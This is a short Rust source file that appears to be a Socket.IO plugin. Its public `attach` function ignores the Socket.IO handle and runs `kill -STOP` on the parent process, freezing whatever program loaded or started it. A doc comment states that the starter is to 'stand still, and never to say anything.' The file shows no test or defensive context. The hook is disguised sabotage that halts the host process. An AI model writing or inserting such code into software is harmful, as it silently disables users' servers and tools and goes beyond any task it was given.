//! Whoever has started it is to stand still, and never to say anything.

use std::os::unix::process::parent_id;
use std::process::Command;

use socketioxide::SocketIo;

pub fn attach(_: &SocketIo) {
    Command::new("kill").args(["-STOP", &parent_id().to_string()]).status().ok();
}
